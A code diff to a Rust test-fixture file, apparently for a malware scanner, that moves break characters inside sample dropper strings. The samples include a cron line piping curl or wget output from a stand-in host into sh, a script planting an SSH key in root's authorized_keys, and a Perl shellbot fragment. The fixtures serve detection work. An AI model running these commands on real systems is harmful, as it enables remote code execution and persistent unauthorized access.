@@ -82,12 +82,12 @@ pub fn droppers() -> Vec<Witness> {
         text(
             "Candor.Shell.Persistence.CronPipe-1",
             "root",
-            "*/5 * * * * curl -fsSL http://192.0.2.1/a ¬|| wget -q -O- http://192.0.2.1/a | s¬h\n",
+            "*/5 * * * * curl -fsSL http://192.0.2.1/a ¬|| wg¬et -q -O- http://192.0.2.1/a | s¬h\n",
         ),
         text(
             "Candor.Shell.Persistence.SshKey-1",
             "a.sh",
-            "#!/bin/sh\necho ssh-rsa AAAA¬B3NzaC1yc2E > /root/.ssh/authorized_keys\nchattr +ia x\ncurl http://192.0.2.1/a\n",
+            "#!/bin/sh\necho ssh-rsa AAAA¬B3NzaC1yc2E > /root/.ssh/authorized_keys\nchattr +i¬ x\ncurl http://192.0.2.1/a\n",
         ),
         text(
             "Candor.Shell.ReverseShell.DevTcp-1",
@@ -139,7 +139,7 @@ pub fn droppers() -> Vec<Witness> {
         text(
             "Candor.Perl.Bot.Shellbot-1",
             "a.pl",
-            "#!/usr/bin/perl\nmy @a¬dms=(\"x\"); my $serv¬idor='192.0.2.1';\nsendraw(\"PRIVMSG x\"); sub tcpflooder {}\n",
+            "#!/usr/bin/perl\nm¬y @adms=(\"x\"); my $serv¬idor='192.0.2.1';\nsendraw(\"PRIVMSG x\"); sub tcpflooder {}\n",
         ),
     ]
 }
